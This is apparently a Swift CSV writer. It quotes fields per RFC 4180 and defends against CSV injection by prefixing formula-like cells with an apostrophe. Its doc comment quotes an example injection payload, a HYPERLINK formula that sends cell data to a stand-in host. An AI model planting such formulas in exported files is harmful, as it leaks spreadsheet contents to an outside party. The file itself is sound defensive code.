/// RFC 4180 fields: quoted only when they must be.
///
/// A field a spreadsheet would evaluate is neutralised (OWASP, "CSV Injection"):
/// one that begins with `=`, `+`, `-`, `@`, a tab or a carriage return, and is
/// not a plain number, gets a leading `'`, so that a gateway's
/// `=HYPERLINK("http://evil.example/?x="&A1,"Open")` reaches a researcher's
/// spreadsheet as text, not as a link that sends the sheet away. Numbers,
/// negative ones included, are left as they are: they are the data.
enum CSV {
    static func field(_ s: String) -> String {
        let s = neutralised(s)
        guard s.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) else { return s }
        return "\"" + s.replacingOccurrences(of: "\"", with: "\"\"") + "\""
    }

    /// `s` with a leading `'` when a spreadsheet would take it for a formula.
    static func neutralised(_ s: String) -> String {
        guard let first = s.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first), Double(s) == nil else { return s }
        return "'" + s
    }

    static func row(_ fields: [String]) -> String { fields.map(field).joined(separator: ",") + "\r\n" }

    static func number(_ v: Double?) -> String {
        guard let v else { return "" }
        return v == v.rounded() && abs(v) < 1e15 ? String(Int64(v)) : String(v)
    }
}
